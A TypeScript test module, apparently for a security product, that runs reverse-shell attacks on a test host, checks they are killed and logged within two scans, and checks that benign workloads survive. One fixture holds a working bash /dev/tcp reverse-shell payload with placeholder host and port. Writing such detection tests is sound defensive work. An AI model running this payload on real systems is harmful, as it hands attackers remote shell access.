// The two proofs that the short and the full tests share: attacks die and are recorded, innocents are left alone.
import { type Attack, type AttackRun, answers, endAttack, runAttack, type Standing, standingOf } from "./attacks.ts";
import type { Innocent } from "./innocents/row.ts";
import { findDead, startInnocents, stopInnocents, WATCH_MS } from "./innocents.ts";
import { accusedPids, alerts, documents, type Status, status, waitForScans } from "./product.ts";
import type { ShapeProcess } from "./shapes.ts";
import type { Host } from "./testhost.ts";

const SCANS_ALLOWED = 2;
/** A scan is counted before what it found is dealt with. */
const SETTLE_MS = 1000;

/** A reverse shell of our own, for tests that need any one. */
export const PLAIN_SHELL: Attack = {
  id: "plain",
  title: "bash and /dev/tcp",
  kind: "reverse",
  family: "bash",
  form: "shell_command",
  transport: "tcp",
  payload: "bash -i >& /dev/tcp/{LHOST}/{LPORT} 0>&1",
  interpreter_needed: "bash",
  debian_package: "bash",
};

export interface AttackVerdict {
  readonly run: AttackRun;
  readonly standing: Standing;
  /** Wired processes in its unit after two scans, the first ones or later ones. */
  readonly survivors: readonly ShapeProcess[];
  /** A command sent after two scans was still answered. */
  readonly answeredAfterwards: boolean;
  /** A kill in logs/alerts.jsonl names one of its wired processes. */
  readonly killRecorded: boolean;
  /** For loops: an ALERT names one of its processes. */
  readonly alerted: boolean;
}

/**
 * Runs attacks together and judges them after two scans. Each is looked at the moment its attacker has output; a scan may
 * still be faster, then nothing of it is left to be looked at and only what stands after two scans counts.
 */
export async function judgeAttacks(
  host: Host,
  attacks: readonly Attack[],
  firstPort: number,
  users: readonly string[],
): Promise<AttackVerdict[]> {
  const standing = new Map<AttackRun, Standing>();
  const runs = await Promise.all(
    attacks.map(async (attack, index) => {
      const run = await runAttack(host, attack, firstPort + index, users[index % users.length] ?? "root");
      for (const [key, stands] of await standingOf(host, [run])) standing.set(key, stands);
      return run;
    }),
  );
  await waitForScans(host, SCANS_ALLOWED);
  await Bun.sleep(SETTLE_MS);
  const later = await standingOf(host, runs);
  const recorded = await documents(host);
  const killedPids = new Set(recorded.flatMap((document) => document.algo_monitor.outcome?.killed_pids ?? []));
  const alertedPids = await accusedPids(host);
  const verdicts = await Promise.all(
    runs.map(async (run): Promise<AttackVerdict> => {
      const stands = standing.get(run) ?? { shape: { processes: [], sockets: [] }, wired: [] };
      const { processes } = stands.shape;
      const unitPids = new Set([...processes.map((process) => process.pid), ...(await host.pidsOf(run.unit))]);
      return {
        run,
        standing: stands,
        survivors: later.get(run)?.wired ?? [],
        answeredAfterwards: run.worked && stands.wired.length > 0 && (await answers(host, run.port, "late", false)),
        killRecorded: stands.wired.length === 0 || stands.wired.some((process) => killedPids.has(process.pid)),
        alerted: [...unitPids].some((pid) => alertedPids.has(pid)),
      };
    }),
  );
  await Promise.all(runs.map((run) => endAttack(host, run)));
  return verdicts;
}

/** One line for each attack that was not dealt with as it must be. */
export function faultsOf(verdicts: readonly AttackVerdict[]): string[] {
  return verdicts.flatMap((verdict) => {
    const { attack, user } = verdict.run;
    const name = `${attack.id} (${attack.family} ${attack.kind} ${attack.transport}, as ${user})`;
    const faults: string[] = [];
    for (const { pid, argv } of verdict.survivors)
      faults.push(`${name}: pid ${pid} ${JSON.stringify(argv)} lives after two scans`);
    if (verdict.answeredAfterwards) faults.push(`${name}: the attacker still gets answers after two scans`);
    if (!verdict.killRecorded) faults.push(`${name}: died without a kill on record`);
    return faults;
  });
}

export interface InnocentVerdict {
  /** Scenarios that ended, with the reason. */
  readonly dead: readonly string[];
  readonly kills: number;
  /** What the kernel stopped, or would have. */
  readonly verdicts: number;
  /** Decisions to kill or to disconnect, done or not, and findings of severity ALERT. */
  readonly accusations: readonly string[];
}

/** `meanwhile` runs once everything is alive; where it installs the product, all that is found counts. */
export async function judgeInnocents(
  host: Host,
  rows: readonly Innocent[],
  meanwhile?: () => Promise<void>,
): Promise<InnocentVerdict> {
  const before = meanwhile === undefined ? await status(host) : undefined;
  const known = new Set(
    meanwhile === undefined ? (await alerts(host)).map((alert) => `${alert.id} ${alert.count}`) : [],
  );
  const running = await startInnocents(host, rows);
  await meanwhile?.();
  const beforeWatch = Date.now();
  await waitForScans(host, SCANS_ALLOWED + 1);
  await Bun.sleep(Math.max(0, WATCH_MS - (Date.now() - beforeWatch)));
  const dead = await findDead(host, running);
  const after = await status(host);
  const fresh = (await alerts(host)).filter((alert) => !known.has(`${alert.id} ${alert.count}`));
  const mayBeTold = new Set(rows.flatMap((row) => row.told ?? []));
  const accused = fresh.filter(
    (alert) =>
      (alert.severity === "ALERT" && !mayBeTold.has(alert.rule.name)) ||
      ["kill", "disconnect", "refuse"].includes(alert.action ?? ""),
  );
  await stopInnocents(host, running);
  const harm = (of: Status | undefined): number => (of === undefined ? 0 : of.counts.kills + of.counts.disconnects);
  return {
    dead,
    kills: harm(after) - harm(before),
    verdicts: after.kernel.verdicts - (before?.kernel.verdicts ?? 0),
    accusations: accused.map(
      (alert) => `${alert.severity} ${alert.rule.name} (${alert.action ?? "-"}): ${alert.title}`,
    ),
  };
}
